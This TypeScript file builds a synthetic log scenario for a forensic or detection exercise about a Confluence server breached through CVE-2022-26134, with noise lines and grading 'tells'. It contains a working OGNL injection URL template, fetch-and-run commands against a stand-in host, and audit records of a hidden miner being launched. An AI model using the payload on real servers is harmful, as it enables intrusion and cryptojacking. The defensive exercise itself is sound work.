/** CVE-2022-26134: an expression in the path of a request, and Confluence's own Java starts a shell. */
import { applicationTime, commonTime } from './clock.ts';
import { audited, auditNoise, authNoise, type Line, moments, type Visit, visits, written } from './noise.ts';
import { chance } from './random.ts';
import { attacker, minerArguments, night, type Story, weekBegins, weekEnds } from './story.ts';
import { triedAndFailed } from './tried.ts';

/** The pattern of Confluence's server.xml: `%t %{X-AUSERNAME}o %I %h %r %s %Dms %b %{Referer}i %{User-Agent}i`. */
function confluenceLine({ ms, client, method, target, status, bytes, agent }: Visit): Line {
  const words = `[${commonTime(ms)}] - http-nio-8090-exec-${1 + (ms % 10)} ${client} ${method} ${target} HTTP/1.1 ${status} 21ms ${bytes} - ${agent}`;
  return { ms, text: words };
}

const fetching = 'curl -fsSL http://203.0.113.9/c.sh -o /tmp/.c';
const expression = (command: string): string =>
  `/%24%7B%28%23a%3D%40org.apache.commons.io.IOUtils%40toString%28%40java.lang.Runtime%40getRuntime%28%29.exec%28%22${encodeURIComponent(command)}%22%29.getInputStream%28%29%2C%22utf-8%22%29%29.%28%40com.opensymphony.webwork.ServletActionContext%40getResponse%28%29.setHeader%28%22X-Out%22%2C%23a%29%29%7D/`;
const ask = (ms: number, client: string, command: string, status: number): Line =>
  confluenceLine({ ms, client, method: 'GET', target: expression(command), status, bytes: 0, agent: 'Mozilla/5.0' });

const attack = [
  ask(night - 260_000, '192.0.2.177', 'id', 404),
  ask(night, attacker, fetching, 302),
  ask(night + 8_000, attacker, 'sh /tmp/.c', 302),
];

/** The application's own log, in the machine's local time, which it does not name. */
function applicationNoise(): Line[] {
  const luck = chance(44);
  return [...moments(weekBegins, weekEnds, 12, luck)].map((ms) => ({
    ms,
    text: `${applicationTime(ms)} ${luck.pick([
      'INFO [Caesium-1-4] [confluence.impl.schedule.caesium.JobRunnerWrapper] runJob Job summary: completed',
      'WARN [http-nio-8090-exec-3] [common.security.jackson.SchemaFactory] warn slow request',
      'INFO [hz.confluence.cached.thread-2] [atlassian.confluence.cache.TransactionalCacheFactory] flushed',
    ])}`,
  }));
}
const complaint: Line = {
  ms: night + 300,
  text: `${applicationTime(night + 300)} WARN [http-nio-8090-exec-6] [opensymphony.xwork.util.OgnlValueStack] findValue Could not evaluate expression`,
};

const java = 1_702;
const user = { uid: 2002, folder: '/opt/atlassian/confluence' };
const deeds = [
  ...audited({
    ms: night + 250,
    serial: 93_001,
    pid: 33_001,
    parent: java,
    ...user,
    program: '/usr/bin/curl',
    arguments: fetching.split(' '),
  }),
  ...audited({
    ms: night + 8_200,
    serial: 93_002,
    pid: 33_004,
    parent: java,
    ...user,
    program: '/bin/sh',
    arguments: ['sh', '/tmp/.c'],
  }),
  ...audited({
    ms: night + 14_000,
    serial: 93_009,
    pid: 33_020,
    parent: 33_004,
    ...user,
    program: '/tmp/.hsperf/jvmd',
    arguments: ['/tmp/.hsperf/jvmd', ...minerArguments],
  }),
];
const server = audited({
  ms: weekBegins + 2_000,
  serial: 12,
  pid: java,
  parent: 1,
  ...user,
  program: '/opt/atlassian/confluence/jre/bin/java',
  arguments: [
    '/opt/atlassian/confluence/jre/bin/java',
    '-Dconfluence.home=/var/atlassian/confluence',
    'org.apache.catalina.startup.Bootstrap',
    'start',
  ],
});

const access = 'opt/atlassian/confluence/logs/conf_access_log.2026-11-03.log';
const audit = 'var/log/audit/audit.log';

export const confluence: Story = {
  name: 'Confluence',
  files: {
    [access]: written(
      [...visits(weekBegins, weekEnds, 80, 41), ...triedAndFailed(weekBegins, weekEnds, 0.3, 42)].map(confluenceLine),
      attack,
    ),
    'var/atlassian/confluence/logs/atlassian-confluence.log': written(applicationNoise(), [complaint]),
    [audit]: written(server, auditNoise(weekBegins, weekEnds, 43), deeds),
    'var/log/auth.log': written(authNoise(weekBegins, weekEnds, 'wiki01', 45)),
  },
  reading: 'exploit',
  begins: night,
  tells: [/CVE-2022-26134/, /c\.sh/],
  requests: [access],
  deeds: [audit],
};
